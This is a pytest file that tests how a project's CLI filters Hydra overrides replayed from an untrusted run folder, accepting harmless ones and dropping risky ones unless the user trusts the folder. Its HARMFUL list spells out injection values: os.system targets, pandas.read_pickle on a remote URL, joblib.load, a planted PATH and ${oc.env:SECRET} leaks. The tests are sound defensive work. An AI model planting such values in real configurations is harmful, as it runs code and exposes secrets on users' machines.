"""A run folder of a stranger: what its stored command says is taken only where it can do nothing."""

from pathlib import Path

import pytest
from omegaconf import OmegaConf

from ssd.cli.earlier_run import with_earlier_run
from ssd.cli.replay import replayed

HARMLESS = [
    "training.epochs=3",
    "name=hydrant",
    "'name=${backbone.name}_mine'",
    "optimizer._target_=keras.optimizers.Lion",
    "augmentation.transforms=[{_target_: ssd.data.transforms.RandomCrop}, {_target_: albumentations.HorizontalFlip}]",
]
HARMFUL = [
    "+hydra.callbacks.x={_target_: pandas.read_pickle, filepath_or_buffer: http://host/x}",
    "hydra.run.dir=/somewhere/else",
    "hydra/launcher=joblib",
    "++hydra.job.env_set.PATH=/planted",
    "'name=${oc.env:SECRET}'",
    "name=${ssd.slug:${oc.env:SECRET}}",
    "augmentation.transforms=[{_target_: joblib.load, filename: x}]",
    "augmentation.transforms=[{'_target_': 'os.system', command: x}]",
    "augmentation.transforms=[{_target_: albumentations.load, filepath_or_buffer: x}]",
    "task._target_=os.system",
    "dataset._target_=ssd.cli.main.main",
    "~training.epochs",
]


@pytest.mark.parametrize("line", HARMLESS)
def test_what_is_harmless_is_taken(line, tmp_path, capsys):
    assert replayed([line], tmp_path, trusted=False) == [line]
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize("line", HARMFUL)
def test_what_could_do_anything_is_left_out_and_said(line, tmp_path, capsys):
    assert replayed(["seed=1", line], tmp_path, trusted=False) == ["seed=1"]
    assert line[:60] in capsys.readouterr().out
    assert replayed(["seed=1", line], tmp_path, trusted=True) == ["seed=1", line]


@pytest.fixture
def run_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "run"
    (folder / ".hydra").mkdir(parents=True)
    (folder / "checkpoints").mkdir()
    (folder / "checkpoints" / "best.keras").write_bytes(b"")
    OmegaConf.save(OmegaConf.create(["seed=1", *HARMFUL[:3]]), folder / ".hydra" / "overrides.yaml")
    OmegaConf.save(OmegaConf.create({"hydra": {"runtime": {"cwd": "/"}}}), folder / ".hydra" / "hydra.yaml")
    return folder


def test_evaluating_takes_the_harmless_part(run_folder):
    lines = with_earlier_run(["task=evaluate", f"checkpoint={run_folder}"], multirun=False)
    assert lines == ["seed=1", "task=evaluate", f"checkpoint='{run_folder}'"]


def test_all_of_it_where_the_user_trusts_it(run_folder):
    lines = with_earlier_run(["task=evaluate", f"checkpoint={run_folder}", "trust=true"], multirun=False)
    assert lines[:4] == ["seed=1", *HARMFUL[:3]]


def test_predicting_needs_nothing_of_it(run_folder):
    given = ["task=predict", "source=x.jpg", f"checkpoint={run_folder}"]
    assert with_earlier_run(given, multirun=False) == [*given[:2], f"checkpoint='{run_folder}'"]
